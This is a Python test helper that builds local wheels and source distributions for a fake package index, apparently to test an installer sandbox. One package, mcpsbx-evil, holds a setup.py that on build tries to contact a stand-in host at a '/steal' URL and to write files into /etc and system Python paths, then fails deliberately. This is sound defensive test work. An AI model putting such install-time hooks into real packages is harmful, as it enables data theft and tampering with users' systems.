#!/usr/bin/env python3
"""Builds the distributions a test package index serves (PEP 503), with
the standard library only: no PyPI is reachable from the test machines, so
the tests make their own wheels and source distributions that a real pip
resolves, downloads, builds and installs.

    python3 tests/integration/pypi_index.py OUT_DIR

writes OUT_DIR/files/* and prints a JSON object {project: [file, ...]}
(project names normalized as PEP 503 says). What the projects are:

  mcpsbx-base   1.0.0 and 1.1.0, wheels: module mcpsbx_base, VALUE names
                the version (so a pin can be told from the newest)
  mcpsbx-dep    2.0.0, wheel: needs mcpsbx-base>=1.0 (a dependency pip
                must resolve); module mcpsbx_dep
  mcpsbx-sdist  0.3.0, source only (setup.py with setuptools): pip builds
                it in the installer's sandbox; module mcpsbx_sdist
  mcpsbx-evil   0.1.0, source only: its setup.py tries to reach a host
                that is not the index and to write outside its target,
                writes what happened to stderr and fails the build
  mcpsbx-big    1.0.0, wheel: module mcpsbx_big and BIG_BYTES of data
                that does not compress, for a cache's size cap to bite
"""
import base64
import hashlib
import io
import json
import os
import sys
import tarfile
import zipfile


def record_line(name, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return "%s,sha256=%s,%d" % (name, digest, len(data))


def wheel(out, project, version, modules, requires=()):
    """A pure-Python wheel: modules maps a file inside it to its text
    (or bytes)."""
    dist = project.replace("-", "_")
    info = "%s-%s.dist-info" % (dist, version)
    meta = ["Metadata-Version: 2.1", "Name: %s" % project, "Version: %s" % version]
    meta += ["Requires-Dist: %s" % r for r in requires]
    files = dict(modules)
    files[info + "/METADATA"] = "\n".join(meta) + "\n"
    files[info + "/WHEEL"] = ("Wheel-Version: 1.0\nGenerator: mcpsbx-test\n"
                              "Root-Is-Purelib: true\nTag: py3-none-any\n")
    name = "%s-%s-py3-none-any.whl" % (dist, version)
    lines = []
    with zipfile.ZipFile(os.path.join(out, name), "w", zipfile.ZIP_DEFLATED) as z:
        for path, text in files.items():
            data = text if isinstance(text, bytes) else text.encode()
            z.writestr(path, data)
            lines.append(record_line(path, data))
        lines.append(info + "/RECORD,,")
        z.writestr(info + "/RECORD", "\n".join(lines) + "\n")
    return name


def sdist(out, project, version, files):
    """A source distribution: setup.py and the rest, under PROJECT-VERSION/."""
    dist = project.replace("-", "_")
    root = "%s-%s" % (dist, version)
    pkg_info = "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (project, version)
    files = dict(files, **{"PKG-INFO": pkg_info})
    name = root + ".tar.gz"
    with tarfile.open(os.path.join(out, name), "w:gz") as t:
        for path, text in sorted(files.items()):
            data = text.encode()
            ti = tarfile.TarInfo("%s/%s" % (root, path))
            ti.size = len(data)
            ti.mode = 0o644
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return name


# Three sets holding mcpsbx-big pass the smallest cap a cache may have
# (16 MiB), two do not.
BIG_BYTES = 7 << 20

SETUP = """from setuptools import setup
setup(name=%r, version=%r, py_modules=[%r])
"""

EVIL = r'''import os, sys, urllib.request
tried = []
try:
    urllib.request.urlopen("http://not-the-index.test/steal", timeout=5).read()
    tried.append("reached not-the-index.test")
except Exception as e:
    tried.append("not-the-index.test refused: %s" % type(e).__name__)
for target in ("/opt/mcpsbx-packages/planted", "/etc/planted", "/usr/lib/python3/dist-packages/planted.py"):
    try:
        with open(target, "w") as f:
            f.write("x")
        tried.append("wrote " + target)
    except OSError as e:
        tried.append("cannot write %s: %s" % (target, e.strerror))
sys.stderr.write("mcpsbx-evil: " + "; ".join(tried) + "\n")
sys.exit(1)
'''


def main():
    out = os.path.join(sys.argv[1], "files")
    os.makedirs(out, exist_ok=True)
    index = {"mcpsbx-base": [], "mcpsbx-dep": [], "mcpsbx-sdist": [], "mcpsbx-evil": [],
             "mcpsbx-big": []}
    for v in ("1.0.0", "1.1.0"):
        index["mcpsbx-base"].append(wheel(out, "mcpsbx-base", v, {
            "mcpsbx_base.py": "VALUE = 'base %s'\n" % v}))
    index["mcpsbx-dep"].append(wheel(out, "mcpsbx-dep", "2.0.0", {
        "mcpsbx_dep.py": "import mcpsbx_base\nVALUE = 'dep 2.0.0 on ' + mcpsbx_base.VALUE\n"},
        requires=["mcpsbx-base>=1.0"]))
    index["mcpsbx-sdist"].append(sdist(out, "mcpsbx-sdist", "0.3.0", {
        "setup.py": SETUP % ("mcpsbx-sdist", "0.3.0", "mcpsbx_sdist"),
        "mcpsbx_sdist.py": "VALUE = 'sdist 0.3.0 built'\n"}))
    index["mcpsbx-evil"].append(sdist(out, "mcpsbx-evil", "0.1.0", {
        "setup.py": EVIL, "mcpsbx_evil.py": "VALUE = 'evil'\n"}))
    index["mcpsbx-big"].append(wheel(out, "mcpsbx-big", "1.0.0", {
        "mcpsbx_big.py": "VALUE = 'big 1.0.0'\n", "mcpsbx_big.bin": os.urandom(BIG_BYTES)}))
    json.dump(index, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
